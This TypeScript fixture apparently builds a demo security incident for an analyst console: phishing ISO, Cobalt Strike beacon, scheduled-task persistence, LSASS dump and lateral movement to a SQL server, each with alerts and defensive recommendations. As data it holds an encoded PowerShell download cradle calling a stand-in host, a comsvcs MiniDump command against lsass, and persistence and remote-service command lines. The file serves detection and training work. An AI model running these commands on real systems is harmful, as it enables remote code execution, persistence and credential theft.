import { addresses, analysts, attackerDomains, devices, people } from '../directory';
import type { DemoTimeline } from '../fake-identifiers';
import { fakeGuid } from '../fake-identifiers';
import type { FileSpec, IncidentSpec } from '../graph-shapes';
import {
  analyzedMessageEvidence,
  deviceEvidence,
  fileEvidence,
  ipEvidence,
  processEvidence,
  registryValueEvidence,
  urlEvidence,
  userEvidence,
} from '../graph-shapes';

/** The UTF-16LE Base64 of a download cradle for the beacon's stager, as attackers pass it to -EncodedCommand. */
export const encodedDownloadCradle =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHQAZQBsAGUAbQBlAHQAcgB5AC0AcwB5AG4AYwAuAGUAeABhAG0AcABsAGUALwBqAHEAdQBlAHIAeQAtADMALgAzAC4AMQAuAG0AaQBuAC4AagBzACcAKQA=';

const system32 = 'C:\\Windows\\System32';
const powershell: FileSpec = {
  fileName: 'powershell.exe',
  filePath: `${system32}\\WindowsPowerShell\\v1.0`,
  publisher: 'Microsoft Corporation',
};
const rundll32: FileSpec = { fileName: 'rundll32.exe', filePath: system32, publisher: 'Microsoft Corporation' };
const beaconDll: FileSpec = {
  fileName: 'update_helper.dll',
  filePath: 'C:\\Users\\kwatanabe\\AppData\\Local\\Temp',
  hashLabel: 'cobalt-strike-beacon-dll',
  size: 312_832,
};

/**
 * Incident 43, about two days ago: an ISO attachment with a shortcut runs encoded PowerShell on an engineer's
 * workstation, loads a Cobalt Strike beacon, persists with a scheduled task, dumps LSASS, reuses an IT admin's
 * cached credentials (overpass-the-hash) and moves to the SQL server with a PsExec-style service.
 */
export function humanOperatedAttackIncident(time: DemoTimeline): IncidentSpec {
  const victim = people.kenji;
  const admin = people.marcus;
  const workstation = devices.kenjiWorkstation;
  const beaconUrl = `https://${attackerDomains.commandAndControl}/jquery-3.3.1.min.js`;
  const stagerCommand = `powershell.exe -nop -w hidden -EncodedCommand ${encodedDownloadCradle}`;
  const beaconCommand = `rundll32.exe ${beaconDll.filePath}\\${beaconDll.fileName},Start`;

  return {
    id: '43',
    displayName: 'Human-operated attack: Cobalt Strike and credential theft on eng-wks-022, lateral movement to sql01',
    description:
      'A disk image attachment led to encoded PowerShell and a Cobalt Strike beacon on an engineering workstation. ' +
      "The attacker dumped LSASS, reused an IT administrator's credentials and created a remote service on sql01.",
    status: 'inProgress',
    assignedTo: analysts.amara,
    classification: 'truePositive',
    determination: 'multiStagedAttack',
    customTags: ['Human-operated', 'Cobalt Strike'],
    alerts: [
      {
        id: 'fa-3003',
        product: 'office',
        title: 'Email messages containing malicious file removed after delivery',
        description:
          'Messages with a disk image (.iso) attachment were removed after delivery by zero-hour auto purge. The ' +
          'image contains a shortcut that starts PowerShell. One recipient opened the attachment before removal.',
        recommendedActions:
          'Find devices where the attachment was opened (DeviceFileEvents for the ISO name), and block .iso and ' +
          '.img attachments in the anti-malware policy.',
        severity: 'medium',
        status: 'resolved',
        category: 'InitialAccess',
        techniques: ['T1566.001', 'T1553.005'],
        activity: { startedMinutesAgo: 2935, endedMinutesAgo: 2890 },
        evidence: [
          analyzedMessageEvidence(
            {
              networkMessageId: fakeGuid('message:iso-lure'),
              subject: 'Updated architecture review pack (Q3)',
              sender: `docs@${attackerDomains.isoLure}`,
              senderIp: addresses.phishingRelay,
              recipient: victim,
              urls: [],
              receivedAt: time.minutesAgo(2935),
              threats: ['Malware'],
              deliveryAction: 'delivered',
              deliveryLocation: 'deletedFolder',
              attachments: 1,
            },
            { verdict: 'malicious', remediationStatus: 'remediated' },
          ),
          userEvidence(victim, { roles: ['victim'] }),
        ],
        classification: 'truePositive',
        determination: 'malware',
      },
      {
        id: 'da-1001',
        product: 'endpoint',
        title: 'Suspicious PowerShell command line',
        description:
          'A hidden PowerShell process ran a Base64-encoded command that downloads and executes a script from the ' +
          'internet. It was started by cmd.exe from a shortcut inside a mounted disk image.',
        recommendedActions:
          'Decode the command line, isolate the device if the download succeeded, and look for the same command ' +
          'line on other devices in DeviceProcessEvents.',
        severity: 'medium',
        status: 'inProgress',
        category: 'Execution',
        techniques: ['T1059.001', 'T1027.010', 'T1105'],
        activity: { startedMinutesAgo: 2880 },
        evidence: [
          deviceEvidence(workstation, [victim], { roles: ['compromised'], verdict: 'suspicious' }),
          userEvidence(victim, { roles: ['compromised'] }),
          processEvidence(
            {
              image: powershell,
              commandLine: stagerCommand,
              parent: { fileName: 'cmd.exe', filePath: system32, publisher: 'Microsoft Corporation' },
              processId: 7832,
              parentProcessId: 5120,
              user: victim,
              createdAt: time.minutesAgo(2880),
            },
            workstation,
            { verdict: 'malicious' },
          ),
          urlEvidence(beaconUrl, { roles: ['commandAndControl'], verdict: 'malicious' }),
        ],
        assignedTo: analysts.amara,
      },
      {
        id: 'da-1002',
        product: 'endpoint',
        title: "An active 'CobaltStrike' malware was detected",
        description:
          'Microsoft Defender Antivirus detected a Cobalt Strike beacon loaded by rundll32.exe. The beacon ' +
          'connects over HTTPS to a domain first seen in the organisation on the same day.',
        recommendedActions:
          'Isolate the device, collect an investigation package, block the domain and IP address, and treat ' +
          'every credential used on the device as compromised.',
        severity: 'high',
        status: 'inProgress',
        category: 'CommandAndControl',
        techniques: ['T1071.001', 'T1573.002', 'T1055'],
        threatFamilyName: 'CobaltStrike',
        detectionSource: 'antivirus',
        activity: { startedMinutesAgo: 2876, endedMinutesAgo: 2610 },
        evidence: [
          deviceEvidence(workstation, [victim], { roles: ['compromised'], verdict: 'malicious' }),
          userEvidence(victim, { roles: ['compromised'] }),
          fileEvidence(beaconDll, workstation, { roles: ['created'], verdict: 'malicious' }),
          processEvidence(
            {
              image: rundll32,
              commandLine: beaconCommand,
              parent: powershell,
              processId: 8120,
              parentProcessId: 7832,
              user: victim,
              createdAt: time.minutesAgo(2876),
            },
            workstation,
            { verdict: 'malicious' },
          ),
          ipEvidence(addresses.commandAndControl, 'NL', { roles: ['commandAndControl'], verdict: 'malicious' }),
          urlEvidence(beaconUrl, { roles: ['commandAndControl'], verdict: 'malicious' }),
        ],
        assignedTo: analysts.amara,
      },
      {
        id: 'da-1003',
        product: 'endpoint',
        title: 'Suspicious scheduled task',
        description:
          'A scheduled task named like a OneDrive component was created to run the beacon DLL through rundll32 ' +
          'at every logon.',
        recommendedActions:
          'Delete the task after collecting it, and hunt for tasks whose action runs rundll32 with a DLL from a ' +
          'user-writable folder.',
        severity: 'medium',
        status: 'inProgress',
        category: 'Persistence',
        techniques: ['T1053.005'],
        activity: { startedMinutesAgo: 2862 },
        evidence: [
          deviceEvidence(workstation, [victim], { roles: ['compromised'] }),
          userEvidence(victim, { roles: ['compromised'] }),
          processEvidence(
            {
              image: { fileName: 'schtasks.exe', filePath: system32, publisher: 'Microsoft Corporation' },
              commandLine:
                'schtasks.exe /create /tn "\\Microsoft\\Windows\\OneDrive\\OneDriveUpdateHelper" /tr ' +
                `"${beaconCommand}" /sc onlogon /f`,
              parent: powershell,
              processId: 9012,
              parentProcessId: 7832,
              user: victim,
              createdAt: time.minutesAgo(2862),
            },
            workstation,
            { verdict: 'suspicious' },
          ),
          registryValueEvidence(
            workstation,
            {
              hive: 'HKEY_LOCAL_MACHINE',
              key: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\OneDrive\\OneDriveUpdateHelper',
              valueName: 'Id',
              value: `{${fakeGuid('scheduled-task:onedrive-update-helper').toUpperCase()}}`,
              valueType: 'String',
            },
            { roles: ['added'] },
          ),
          fileEvidence(beaconDll, workstation, { verdict: 'malicious' }),
        ],
        assignedTo: analysts.amara,
      },
      {
        id: 'da-1004',
        product: 'endpoint',
        title: 'Suspicious access to LSASS service',
        description:
          "rundll32.exe used comsvcs.dll's MiniDump export to write the memory of lsass.exe to disk. The dump " +
          'contains the credentials of every user logged on to the device, including cached administrator logons.',
        recommendedActions:
          'Reset the passwords of every account that logged on to this device in the last 30 days, starting with ' +
          'privileged accounts, and enable LSA protection (RunAsPPL).',
        severity: 'high',
        status: 'inProgress',
        category: 'CredentialAccess',
        techniques: ['T1003.001'],
        activity: { startedMinutesAgo: 2795 },
        evidence: [
          deviceEvidence(workstation, [victim], { roles: ['compromised'], verdict: 'malicious' }),
          processEvidence(
            {
              image: rundll32,
              commandLine: `rundll32.exe ${system32}\\comsvcs.dll, MiniDump 716 C:\\ProgramData\\ms.dmp full`,
              parent: rundll32,
              processId: 9144,
              parentProcessId: 8120,
              user: victim,
              createdAt: time.minutesAgo(2795),
            },
            workstation,
            { verdict: 'malicious' },
          ),
          fileEvidence(
            { fileName: 'ms.dmp', filePath: 'C:\\ProgramData', hashLabel: 'lsass-dump', size: 48_234_496 },
            workstation,
            { roles: ['created'], verdict: 'malicious' },
          ),
          userEvidence(victim, { roles: ['compromised'] }),
        ],
        assignedTo: analysts.amara,
      },
      {
        id: 'aa-2001',
        product: 'identity',
        title: 'Suspected overpass-the-hash attack (Kerberos)',
        description:
          `${admin.displayName}'s account requested Kerberos tickets with RC4 encryption from eng-wks-022, a ` +
          'device the account has never signed in to interactively. This matches reuse of a stolen NTLM hash.',
        recommendedActions:
          "Reset the account's password twice, review its group memberships, and check the resources it accessed " +
          'from this device.',
        severity: 'high',
        status: 'new',
        category: 'LateralMovement',
        techniques: ['T1550.002'],
        activity: { startedMinutesAgo: 2722, endedMinutesAgo: 2705 },
        evidence: [
          userEvidence(admin, { roles: ['compromised'], verdict: 'suspicious' }),
          deviceEvidence(workstation, [victim], { roles: ['source'] }),
          deviceEvidence(devices.domainController, [], { roles: ['destination', 'contextual'], verdict: 'unknown' }),
        ],
      },
      {
        id: 'da-1005',
        product: 'endpoint',
        title: 'Suspicious service creation',
        description:
          'A service was created remotely on sql01 from eng-wks-022 over the ADMIN$ share. Its command runs the ' +
          'same encoded PowerShell stager as on eng-wks-022, a pattern of PsExec-style lateral movement.',
        recommendedActions:
          'Isolate sql01, remove the service, and block SMB from workstations to servers where it is not needed.',
        severity: 'high',
        status: 'new',
        category: 'LateralMovement',
        techniques: ['T1021.002', 'T1569.002', 'T1570'],
        activity: { startedMinutesAgo: 2700 },
        evidence: [
          deviceEvidence(devices.sqlServer, [admin], { roles: ['compromised'], verdict: 'malicious' }),
          userEvidence(admin, { roles: ['compromised'] }),
          processEvidence(
            {
              image: { fileName: 'cmd.exe', filePath: system32, publisher: 'Microsoft Corporation' },
              commandLine: `%COMSPEC% /b /c start /b /min ${stagerCommand}`,
              parent: { fileName: 'services.exe', filePath: system32, publisher: 'Microsoft Corporation' },
              processId: 4412,
              parentProcessId: 664,
              user: admin,
              createdAt: time.minutesAgo(2700),
            },
            devices.sqlServer,
            { verdict: 'malicious' },
          ),
          ipEvidence(workstation.ipAddress, null, { roles: ['source'] }),
        ],
      },
      {
        id: 'sn-6002',
        product: 'sentinel',
        title: 'Beaconing to a rare domain from multiple devices',
        description:
          'Analytics rule "Rare domain beaconing": two devices connected to the same domain at a regular ' +
          '60-second interval with low jitter. The domain was first seen in the organisation two days ago.',
        recommendedActions:
          'Block the domain and IP address at the proxy and firewall, and list every device that resolved the ' +
          'domain in DeviceNetworkEvents.',
        severity: 'medium',
        status: 'new',
        category: 'CommandAndControl',
        techniques: ['T1071.001', 'T1573.002'],
        activity: { startedMinutesAgo: 2870, endedMinutesAgo: 2600 },
        evidence: [
          deviceEvidence(workstation, [victim], { roles: ['compromised'] }),
          deviceEvidence(devices.sqlServer, [admin], { roles: ['compromised'] }),
          urlEvidence(beaconUrl, { roles: ['commandAndControl'], verdict: 'malicious' }),
          ipEvidence(addresses.commandAndControl, 'NL', { roles: ['commandAndControl'], verdict: 'malicious' }),
        ],
      },
    ],
  };
}
